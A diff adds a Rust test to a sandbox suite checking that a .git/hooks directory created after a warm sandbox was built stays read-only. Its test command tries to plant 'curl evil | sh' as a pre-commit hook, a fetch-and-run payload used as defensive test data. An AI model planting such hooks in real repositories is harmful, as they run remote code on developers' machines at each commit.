@@ -1497,3 +1497,29 @@ fn a_killed_warm_sandbox_is_replaced() {
     assert_ne!(c.event("started", "third")["pid"].as_i64(), Some(helper));
     c.finish();
 }
+
+/// A protected path that appears after a warm sandbox was built (here a new `.git/hooks`) is
+/// read-only for the next command, as in a cold run: the plan finds it, the spec changes, and
+/// the command gets a sandbox built with it.
+#[test]
+fn a_protected_path_made_after_the_sandbox_is_read_only_for_the_next_command() {
+    let Some(sb) = Sandbox::with_mode(Mode::Warm) else {
+        return;
+    };
+    let mut c = Client::start(&sb, &[]);
+    c.send(&run("before", "true"));
+    assert!(warm(&c.event("exited", "before")));
+    std::fs::create_dir_all(sb.ws.join(".git/hooks")).expect("mkdir");
+    c.send(&run(
+        "plant",
+        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo tried",
+    ));
+    let plant = c.event("exited", "plant");
+    assert!(warm(&plant), "{plant}");
+    assert!(c.streamed("plant").contains("tried"), "{plant}");
+    assert!(
+        !sb.ws.join(".git/hooks/pre-commit").exists(),
+        "a hook was planted through the sandbox built before .git/hooks existed"
+    );
+    c.finish();
+}
